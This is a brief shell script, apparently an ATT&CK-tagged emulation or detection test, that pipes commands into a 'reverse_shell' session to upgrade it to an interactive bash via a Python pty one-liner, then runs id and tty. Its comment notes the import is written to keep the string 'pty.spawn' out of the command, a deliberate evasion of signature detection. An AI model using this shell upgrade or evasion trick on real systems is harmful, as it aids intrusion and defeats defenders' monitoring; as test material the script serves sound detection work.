# pty.spawn imported by name, so that the argument never says pty.spawn.
# ATT&CK: T1059.006, T1059.004
. ./session.sh
reverse_shell <<'TYPED'
python3 -c 'from pty import spawn; spawn("/bin/bash")'
id
tty
exit
exit
TYPED
